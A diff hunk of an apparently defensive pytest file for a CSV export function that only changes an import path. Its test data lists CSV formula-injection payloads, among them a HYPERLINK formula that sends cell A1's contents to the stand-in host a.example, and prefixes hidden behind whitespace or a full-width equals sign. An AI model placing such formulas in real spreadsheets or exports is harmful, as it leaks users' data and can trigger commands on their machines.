@@ -7,7 +7,7 @@ import math
 import pandas as pd
 import pytest
 
-from pipelines.csv_text import to_csv
+from pipelines.program.csv_text import to_csv
 
 FORMULAS = ['=HYPERLINK("http://a.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1"]
 
